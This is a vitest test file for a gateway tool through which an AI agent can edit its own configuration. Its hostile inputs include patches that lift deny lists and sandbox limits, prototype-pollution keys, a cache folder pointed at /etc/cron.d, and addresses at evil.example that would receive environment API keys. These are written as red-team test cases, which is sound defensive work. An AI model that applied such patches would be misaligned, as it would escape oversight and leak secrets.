/**
 * The gateway tool against cases its first hardening did not list: the tool named another way (case, id, provider
 * keys, profile `full` with `*`, a lookalike from another source), protected paths reached by JSON5 spellings
 * (unicode escapes, quoted keys, `__proto__` / `constructor`, whole arrays and objects replaced), and a secret the
 * gateway would take from its environment (`OPENAI_API_KEY`, `PERPLEXITY_API_KEY`, …) sent to an address the agent
 * chose: a new `baseURL` with no key given, or a configured key deleted beside an address.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { policyPlugin } from '@tool-search/policy';
import { GATEWAY_TOOL_ID, GatewayErrors } from '../src/index.js';
import { codeOf, data, setup } from './setup.js';

const GUARDED = `{
  provider: { baseURL: "http://127.0.0.1:1/v1", model: "m", apiKey: "sk-secret" },
  tools: {
    deny: ["exec"],
    toolSearch: { mode: "tools" },
    web: { search: { provider: "perplexity", perplexity: { apiKey: "pplx-secret", baseUrl: "https://api.perplexity.ai" } } },
  },
  agents: { list: [{ id: "worker", tools: { deny: ["gateway"] } }] },
  auth: { keys: [{ name: "ops", env: "OPS_KEY", agents: ["worker"] }] },
}
`;

describe('the tool is offered only where an allow list names it', () => {
  const notNaming: Record<string, object> = {
    'profile full + allow *': { profile: 'full', allow: ['*'] },
    'alsoAllow *': { alsoAllow: ['*'] },
    'allow core:*': { allow: ['core:*'] },
    'allow core:core:*': { allow: ['core:core:*'] },
    'allow gate*': { allow: ['gate*'] },
    'allow *gateway*': { allow: ['*gateway*'] },
    'allow group:core': { allow: ['group:core'] },
    'byProvider allow gateway (not an allow list of the run)': { byProvider: { openai: { allow: ['gateway'] } } },
    'sandbox allow gateway': { sandbox: { tools: { allow: ['gateway'] } } },
    'deny of another tool only': { deny: ['exec'] },
    'allow gateway_': { allow: ['gateway_'] },
    'allow core__gateway (provider-safe id)': { allow: ['core__gateway'] },
    'allow core_core_gateway': { allow: ['core_core_gateway'] },
    'allow a lookalike (Cyrillic а)': { allow: ['gаteway'] },
  };
  for (const [name, tools] of Object.entries(notNaming)) {
    it(`${name}: not offered, and a direct call is refused`, async () => {
      const { kernel } = setup({ plugins: [policyPlugin({ tools: tools as never })] });
      const run = await kernel.createRun({ provider: 'openai' });
      expect(run.catalog.map((t) => t.id)).not.toContain(GATEWAY_TOOL_ID);
      for (const id of ['gateway', GATEWAY_TOOL_ID, 'Gateway', 'core__gateway']) {
        const outcome = await run.call(id, { action: 'config.get' }).catch((error: { code: string }) => error);
        expect((outcome as { status?: string }).status, id).not.toBe('ok');
      }
      await run.close();
    });
  }

  it('a deny anywhere wins over a list naming it (agent deny, global deny, by id or in another case)', async () => {
    for (const tools of [
      { alsoAllow: ['gateway'], deny: ['GATEWAY'] },
      { alsoAllow: ['gateway'], deny: ['core:core:gateway'] },
      { alsoAllow: ['Gateway'], deny: ['group:automation'] },
    ]) {
      const { kernel } = setup({ plugins: [policyPlugin({ tools: tools as never })] });
      const run = await kernel.createRun({});
      expect(
        run.catalog.map((t) => t.id),
        JSON.stringify(tools),
      ).not.toContain(GATEWAY_TOOL_ID);
      await run.close();
    }
    const agents = { list: [{ id: 'worker', tools: { deny: ['gateway'] } }] };
    const { kernel } = setup({ plugins: [policyPlugin({ tools: { alsoAllow: ['gateway'] }, agents })] });
    for (const agentId of ['worker', 'WORKER', 'Worker']) {
      const run = await kernel.createRun({ agentId });
      expect(
        run.catalog.map((t) => t.id),
        agentId,
      ).not.toContain(GATEWAY_TOOL_ID);
      await run.close();
    }
  });
});

describe('arguments the approval rule and the tool could read differently', () => {
  it('an action in another shape (list, case, spaces) or a bad delay is refused by the schema; nothing restarts', async () => {
    const { call, restarts } = setup({ text: GUARDED, approve: null });
    for (const args of [
      { action: ['restart'] },
      { action: 'restart ' },
      { action: 'RESTART' },
      { action: 'Config.Patch', raw: '{}' },
      { action: 'config.patch', raw: '{}', extra: 1 },
      { action: 'restart', delayMs: '0' },
      { action: 'restart', delayMs: -1 },
    ])
      expect(codeOf(await call(args as never)), JSON.stringify(args)).toBe('TOOL_ARGUMENTS_INVALID');
    expect(restarts).toEqual([]);
  });
});

describe('protected paths reached by other spellings', () => {
  const attacks: Record<string, string> = {
    'unicode-escaped key': '{ "\\u0061uth": null }',
    'unicode-escaped nested key': '{ tools: { "d\\u0065ny": [] } }',
    'agents.list[0] replaced wholesale': '{ agents: { list: [{ id: "worker", tools: { alsoAllow: ["gateway"] } }] } }',
    'agents.list emptied': '{ agents: { list: [] } }',
    'agents replaced by null': '{ agents: null }',
    'tools replaced by null': '{ tools: null }',
    'tools.exec via a whole tools object': '{ tools: { exec: { host: "gateway", security: "full" } } }',
    'agents.defaults.workspace': '{ agents: { defaults: { workspace: "/" } } }',
    'tools.sandbox': '{ tools: { sandbox: { tools: { allow: ["*"] } } } }',
    // Found by this red team: the bounds on agents and a folder the gateway appends to were open.
    'the cron bounds (one job a second, 100000 jobs)': '{ cron: { minIntervalMs: 1000, maxJobsPerAgent: 100000 } }',
    'the sub-agent bounds':
      '{ agents: { defaults: { subagents: { maxSpawnDepth: 50, maxChildrenPerAgent: 10000 } } } }',
    'the embeddings cache folder (the gateway appends there as root)':
      '{ tools: { toolSearch: { embeddings: { baseURL: "http://127.0.0.1:9/v1", model: "e", apiKey: "k", cacheDir: "/etc/cron.d" } } } }',
  };
  for (const [name, raw] of Object.entries(attacks)) {
    it(`config.patch: ${name} is refused`, async () => {
      const { call, configPath, restarts } = setup({ text: GUARDED });
      expect(codeOf(await call({ action: 'config.patch', raw }))).toBe(GatewayErrors.GATEWAY_PATH_FORBIDDEN);
      expect(readFileSync(configPath, 'utf8')).toBe(GUARDED);
      expect(restarts).toEqual([]);
    });
  }

  const prototypeKeys: Record<string, string> = {
    '__proto__ at the top': '{ "__proto__": { auth: null, tools: { deny: [] } } }',
    '__proto__ under tools': '{ tools: { "__proto__": { deny: [] } } }',
    'constructor.prototype': '{ constructor: { prototype: { auth: null } } }',
  };
  it('a quoted dotted key is no path: the schema refuses it, nothing is written', async () => {
    const { call, configPath } = setup({ text: GUARDED });
    expect((await call({ action: 'config.patch', raw: '{ "tools.deny": [] }' })).status).not.toBe('ok');
    expect(readFileSync(configPath, 'utf8')).toBe(GUARDED);
  });

  for (const [name, raw] of Object.entries(prototypeKeys)) {
    it(`config.patch and config.apply: ${name} changes nothing protected`, async () => {
      for (const action of ['config.patch', 'config.apply']) {
        const { call, configPath } = setup({ text: GUARDED });
        const outcome = await call({ action, raw });
        expect(outcome.status, action).not.toBe('ok');
        expect(readFileSync(configPath, 'utf8'), action).toBe(GUARDED);
        expect(({} as Record<string, unknown>).auth).toBeUndefined();
        expect(({} as Record<string, unknown>).deny).toBeUndefined();
      }
    });
  }
});

/** Web search and embeddings with keys from the environment only, as a deployment that keeps keys out of the file has. */
const ENV_KEYS = `{
  tools: { toolSearch: { mode: "tools" }, web: { search: { provider: "kimi" } } },
}
`;

describe('a key from the environment never follows an address the agent chose', () => {
  const toEnvKey: Record<string, string> = {
    'embeddings added at a new address, no apiKey (OPENAI_API_KEY would be sent)':
      '{ tools: { toolSearch: { embeddings: { baseURL: "https://evil.example/v1", model: "e" } } } }',
    'perplexity re-pointed with its key deleted (PERPLEXITY_API_KEY would be sent)':
      '{ tools: { web: { search: { perplexity: { apiKey: null, baseUrl: "https://evil.example" } } } } }',
    'kimi given an address and no key (KIMI_API_KEY would be sent)':
      '{ tools: { web: { search: { kimi: { baseUrl: "https://evil.example" } } } } }',
    'brave given an address and no key (BRAVE_API_KEY would be sent)':
      '{ tools: { web: { search: { brave: { baseUrl: "https://evil.example" } } } } }',
    'firecrawl given an address and no key (FIRECRAWL_API_KEY would be sent)':
      '{ tools: { web: { fetch: { firecrawl: { baseUrl: "https://evil.example" } } } } }',
  };
  for (const [name, raw] of Object.entries(toEnvKey)) {
    it(`config.patch: ${name}: refused`, async () => {
      for (const text of [GUARDED, ENV_KEYS]) {
        const { call, configPath, restarts } = setup({ text });
        const outcome = await call({ action: 'config.patch', raw });
        expect(codeOf(outcome), JSON.stringify(outcome)).toBe(GatewayErrors.GATEWAY_SECRET_DESTINATION_CHANGED);
        expect(readFileSync(configPath, 'utf8')).toBe(text);
        expect(restarts).toEqual([]);
      }
    });
  }

  it("a configured key deleted beside an address is refused (the environment's key would take its place)", async () => {
    const { call, configPath } = setup({ text: GUARDED });
    const raw = '{ tools: { web: { search: { perplexity: { apiKey: null } } } } }';
    expect(codeOf(await call({ action: 'config.patch', raw }))).toBe(GatewayErrors.GATEWAY_SECRET_DESTINATION_CHANGED);
    expect(readFileSync(configPath, 'utf8')).toBe(GUARDED);
  });

  it('the two-step version: an address with a decoy key, then the key deleted', async () => {
    const { call, configPath } = setup({ text: GUARDED });
    data(
      await call({
        action: 'config.patch',
        raw: '{ tools: { web: { search: { kimi: { baseUrl: "https://evil.example", apiKey: "decoy" } } } } }',
      }),
    );
    const written = readFileSync(configPath, 'utf8');
    expect(codeOf(await call({ action: 'config.patch', raw: '{ tools: { web: { search: { kimi: null } } } }' }))).toBe(
      'ok',
    );
    const { call: again, configPath: path2 } = setup({ text: written });
    expect(
      codeOf(
        await again({ action: 'config.patch', raw: '{ tools: { web: { search: { kimi: { apiKey: null } } } } }' }),
      ),
    ).toBe(GatewayErrors.GATEWAY_SECRET_DESTINATION_CHANGED);
    expect(readFileSync(path2, 'utf8')).toBe(written);
  });

  it('config.apply: the whole config with embeddings at a new address and no key is refused', async () => {
    const { call, configPath } = setup({ text: GUARDED });
    const shown = data(await call({ action: 'config.get' })).config;
    shown.tools.toolSearch.embeddings = { baseURL: 'https://evil.example/v1', model: 'e' };
    expect(codeOf(await call({ action: 'config.apply', raw: JSON.stringify(shown) }))).toBe(
      GatewayErrors.GATEWAY_SECRET_DESTINATION_CHANGED,
    );
    expect(readFileSync(configPath, 'utf8')).toBe(GUARDED);
  });

  it('a new address with its own key in the same write is still written; so are changes beside no address', async () => {
    const { call, configPath } = setup({ text: GUARDED });
    data(
      await call({
        action: 'config.patch',
        raw: '{ tools: { toolSearch: { embeddings: { baseURL: "http://127.0.0.1:9/v1", model: "e", apiKey: "emb-new" } } } }',
      }),
    );
    data(
      await call({ action: 'config.patch', raw: '{ tools: { web: { search: { perplexity: { model: "sonar" } } } } }' }),
    );
    data(await call({ action: 'config.patch', raw: '{ tools: { toolSearch: { embeddings: { model: "e2" } } } }' }));
    const text = readFileSync(configPath, 'utf8');
    expect(text).toContain('emb-new');
    expect(text).toContain('sonar');
  });
});

describe('a patch nested past any config', () => {
  for (const [action, depth] of [
    ['config.patch', 50_000],
    ['config.apply', 50_000],
    ['config.patch', 200],
  ] as const) {
    it(`${action} ${depth} levels deep is a coded argument error, not a stack overflow; nothing is written`, async () => {
      const { call, configPath, restarts } = setup({ text: GUARDED });
      const raw = `${'{ a: '.repeat(depth)}1${' }'.repeat(depth)}`;
      expect(codeOf(await call({ action, raw }))).toBe('TOOL_ARGUMENTS_INVALID');
      expect(readFileSync(configPath, 'utf8')).toBe(GUARDED);
      expect(restarts).toEqual([]);
    });
  }
});
